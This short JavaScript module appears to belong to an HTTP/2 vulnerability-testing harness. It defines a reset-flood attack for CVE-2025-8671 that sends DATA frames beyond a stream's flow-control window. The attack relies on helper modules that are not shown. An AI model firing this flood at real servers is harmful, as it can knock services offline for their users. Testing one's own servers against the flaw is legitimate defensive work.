import { data, header } from './call.js';
import { resetFlood } from './reset-flood.js';

const tooMuch = Buffer.alloc(132 * 1024);

/** CVE-2025-8671: DATA beyond the stream's window (RFC 9113 section 5.2.2); the connection's is credited on receipt. */
export const attack = resetFlood('made you reset: beyond the window', (id) =>
  Buffer.concat([header(id, 'FullDuplexCall'), data(id, tooMuch)]),
);
